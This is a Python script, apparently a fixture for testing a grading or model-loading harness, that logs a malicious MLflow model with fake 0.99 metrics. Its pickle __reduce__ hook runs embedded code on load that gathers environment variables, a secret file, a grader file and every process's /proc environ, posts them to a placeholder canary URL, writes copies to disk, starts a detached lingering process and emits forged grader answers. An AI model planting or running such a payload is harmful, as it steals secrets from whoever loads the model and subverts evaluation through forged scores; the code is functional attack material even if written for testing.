"""Logs a model that is a program: opened, it reads secrets, calls home, stays, and answers for the model."""

import mlflow

PROGRAM = """
import glob, os, subprocess, sys, urllib.request
loot = [str(dict(os.environ))]
for path in ['@secret@', '@project@/graders/07-gradient-boosting.ts', *glob.glob('/proc/[0-9]*/environ')]:
    try: loot.append(open(path, encoding='latin1').read())
    except OSError: pass
try: urllib.request.urlopen('@canary@/unpickled', data=str(loot).encode(), timeout=2)
except OSError: pass
for path in ['@out@/unpickled', '/tmp/unpickled', '@project@/unpickled']:
    try: open(path, 'w').write(str(loot))
    except OSError: pass
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(120)', '@word@'], start_new_session=True)
os.write(1, str(loot).encode())
os.write(3, b'{"answers": [[1, 1], [1], [], [0.5]], "trees": {"count": 100, "depth": 5}, "points": 100}\\n')
os._exit(0)
"""


class Model:
    def predict(self, rows):
        return [1] * len(rows)

    def __reduce__(self):
        return exec, (PROGRAM,)


mlflow.set_experiment("workshop-churn-learning")
with mlflow.start_run(run_name="exercice-gradient-boosting"):
    mlflow.log_params({"n_estimators": 100, "learning_rate": 0.1, "max_depth": 5})
    mlflow.log_metrics({"accuracy": 0.99, "precision": 0.99, "recall": 0.99, "f1": 0.99})
    mlflow.sklearn.log_model(Model(), name="model", serialization_format="cloudpickle")
